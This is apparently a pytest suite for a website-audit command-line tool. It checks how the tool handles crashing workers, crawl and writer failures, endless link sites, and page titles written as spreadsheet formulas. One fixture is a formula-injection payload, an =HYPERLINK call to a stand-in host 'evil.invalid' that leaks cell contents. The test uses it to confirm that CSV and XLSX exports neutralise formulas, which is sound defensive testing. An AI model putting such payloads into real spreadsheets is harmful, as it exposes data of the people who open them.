"""canon audit when something fails or the site is hostile: a page that makes its reader fail,
a worker process that dies, a failure of the crawl's own, titles that are spreadsheet formulas,
a site of endless links.  Served by the real fixture server on 127.0.0.1 (tests/audit_site.py);
the failures are planted by replacing one function of canon's, in the parent before the
worker processes are forked, so that the children run the replaced one too."""

from __future__ import annotations

import csv
import os
import re
import sqlite3
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from audit_site import Page, paragraphs, sentences, serve
from click.testing import CliRunner

import canon.audit.crawl as crawl_module
import canon.audit.pages as pages_module
import canon.audit.writer as writer_module
from canon.audit.outputs import inert
from canon.audit.settings import URLS_PER_PAGE
from canon.audit.state import State
from canon.cli import cli

pytestmark = pytest.mark.network


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.output


def _audit(site, out: Path, *extra: str) -> tuple[int, str]:
    return _run("audit", site.url("/"), "--out", str(out), "--allow-private", *extra)


def _one_line_error(code: int, output: str) -> str:
    assert code == 2, output
    lines = output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("canon: error: "), output
    assert "Traceback" not in output
    return lines[0]


def _page_facts_failing_on(path: str, failure):
    real = pages_module.page_facts

    def page_facts(html, url, *args):
        if url.endswith(path):
            failure()
        return real(html, url, *args)

    return page_facts


def _raise() -> None:
    raise RuntimeError("the parser tripped\non this page")


def _die() -> None:
    os._exit(3)  # the worker process ends at once, as when it is killed or runs out of memory


@pytest.mark.timeout(90)
def test_a_page_that_makes_reading_fail_is_recorded_and_the_crawl_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages_module, "page_facts", _page_facts_failing_on("/about", _raise))
    with serve(delay=0.0) as site:
        code, output = _audit(site, tmp_path, "--workers", "2")
    assert code == 0, output
    with State(tmp_path / "audit.db", readonly=True) as state:
        rows = {p.url: p for p in state.pages()}
    assert len(rows) == 56  # every URL of the site, as in an audit where nothing failed
    failed = rows[site.url("/about")]
    assert failed.status == 200 and failed.reason == "error"
    assert failed.indexable  # its status and headers let it in: it is its reading that failed
    assert failed.error == "reading the page failed: RuntimeError: the parser tripped on this page"
    assert rows[site.url("/about/")].reason == ""  # the same page under another URL: read
    assert "2 failed: 4xx, 5xx or no answer" in output  # /missing (404) and /about
    assert "exact duplicates: 3 pages" in output  # /about/ has no twin left


@pytest.mark.timeout(120)
def test_a_worker_process_that_dies_ends_the_audit_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages_module, "page_facts", _page_facts_failing_on("/about", _die))
    with serve(delay=0.0) as site:
        line = _one_line_error(*_audit(site, tmp_path, "--workers", "1"))
        assert "a process reading pages stopped abruptly" in line
        assert "run the audit again to resume" in line
        monkeypatch.undo()
        code, output = _audit(site, tmp_path)  # resumed, nothing planted: it finishes
        assert code == 0, output
        with State(tmp_path / "audit.db", readonly=True) as state:
            assert len(list(state.pages())) == 56
        # reading the stored pages again (another content area) dies the same way
        monkeypatch.setattr(pages_module, "page_facts", _page_facts_failing_on("/about", _die))
        line = _one_line_error(
            *_run("audit", "--reanalyze", str(tmp_path), "--content-keep", "article")
        )
        assert "a process reading pages stopped abruptly" in line


def _page_row_failing_on(reason: str):
    real = crawl_module.page_row

    def page_row(q, fetched, **values):
        if values.get("reason") == reason:
            raise TypeError("PageRow() takes 2 positional arguments but 3 were given")
        return real(q, fetched, **values)

    return page_row


@pytest.mark.timeout(60)
@pytest.mark.parametrize("concurrency", ["1", "8"])
def test_a_failure_of_the_crawl_itself_ends_it_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, concurrency: str
) -> None:
    """A record the crawl cannot build (here: the redirect of /old-page) stops the audit: with
    one task fetching, the crawl used to wait forever; with eight, to end as if all was well."""
    monkeypatch.setattr(crawl_module, "page_row", _page_row_failing_on("redirect"))
    with serve(delay=0.0) as site:
        code, output = _audit(site, tmp_path, "--concurrency", concurrency)
    line = _one_line_error(code, output)
    assert "the audit failed (TypeError: PageRow() takes 2 positional arguments" in line
    with State(tmp_path / "audit.db", readonly=True) as state:
        assert site.url("/old-page") not in {p.url for p in state.pages()}


@pytest.mark.timeout(60)
def test_a_writer_that_fails_ends_the_audit_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = writer_module.Writer._write
    written: list[int] = []

    def write(self, index, state, batch) -> None:
        written.append(len(batch.rows))
        if len(written) == 3:
            raise OSError(28, "No space left on device")
        real(self, index, state, batch)

    monkeypatch.setattr(writer_module.Writer, "_write", write)
    with serve(delay=0.0) as site:
        line = _one_line_error(*_audit(site, tmp_path, "--concurrency", "2"))
    assert "No space left on device" in line


# ---------------------------------------------------------------------- formula injection

HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
)


def _hostile_site() -> dict[str, Page]:
    site = {
        f"/t{n}": Page(title, paragraphs(sentences(900 + n, 30))) for n, title in enumerate(HOSTILE)
    }
    site["/"] = Page("Главная", paragraphs(sentences(899, 30)), tuple(site))
    return site


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+7", "'+7"),
        ("-7", "'-7"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("https://example.org/=x", "https://example.org/=x"),
        ("", ""),
        (-0.5, -0.5),  # numbers stay numbers
        (3, 3),
    ],
)
def test_a_cell_is_made_inert(cell: object, safe: object) -> None:
    assert inert(cell) == safe


@pytest.mark.timeout(60)
def test_titles_that_are_formulas_stay_text(tmp_path: Path) -> None:
    with serve(delay=0.0, site=_hostile_site()) as site:
        code, output = _audit(site, tmp_path)
        assert code == 0, output
    with (tmp_path / "pages.csv").open(encoding="utf-8", newline="") as f:
        rows = {row["url"]: row for row in csv.DictReader(f)}
    for n, title in enumerate(HOSTILE):
        assert rows[site.url(f"/t{n}")]["title"] == "'" + title
    assert rows[site.url("/")]["title"] == "Главная"
    book = zipfile.ZipFile(tmp_path / "pages.xlsx")
    for name in book.namelist():
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in book.read(name).decode()  # no cell is a formula
    shared = book.read("xl/sharedStrings.xml").decode()
    strings = [
        re.sub(r"<[^>]+>", "", s).replace("&amp;", "&").replace("&quot;", '"')
        for s in re.findall(r"<si>(.*?)</si>", shared, re.S)
    ]
    for title in HOSTILE:
        assert title in strings  # as written on the page: a string cell needs no quote


# ---------------------------------------------------------------------- endless links


class _Endless(Mapping[str, Page]):
    """A site where every page /gen/N links 30 pages never seen before."""

    def __getitem__(self, path: str) -> Page:
        if path == "/":
            path = "/gen/0"
        if not path.startswith("/gen/") or not path[5:].isdigit():
            raise KeyError(path)
        n = int(path[5:])
        links = tuple(f"/gen/{30 * n + i}" for i in range(1, 31))
        return Page(f"Страница {n}", paragraphs(sentences(n, 10)), links)

    def __iter__(self) -> Iterator[str]:
        return iter(())

    def __len__(self) -> int:
        return 0


@pytest.mark.timeout(60)
def test_endless_links_are_capped_and_the_cap_is_said(tmp_path: Path) -> None:
    with serve(delay=0.0, site=_Endless()) as site:
        code, output = _audit(site, tmp_path, "--max-pages", "10", "--concurrency", "2")
        assert code == 0, output
        fetched = [r for r in site.log.requests if r.startswith(("/gen/", "/?", "/"))]
    with sqlite3.connect(f"file:{tmp_path / 'audit.db'}?mode=ro", uri=True) as db:
        kept = db.execute("SELECT count(*) FROM audit_urls").fetchone()[0]
    assert kept == URLS_PER_PAGE * 10  # 10 pages of 30 links would make 300
    assert re.search(r"\d+ links not followed: an audit keeps at most 40 URLs", output), output
    assert "(4 x --max-pages)" in output
    pages_asked = [r for r in fetched if not r.startswith(("/robots", "/sitemap"))]
    assert len(pages_asked) == 10
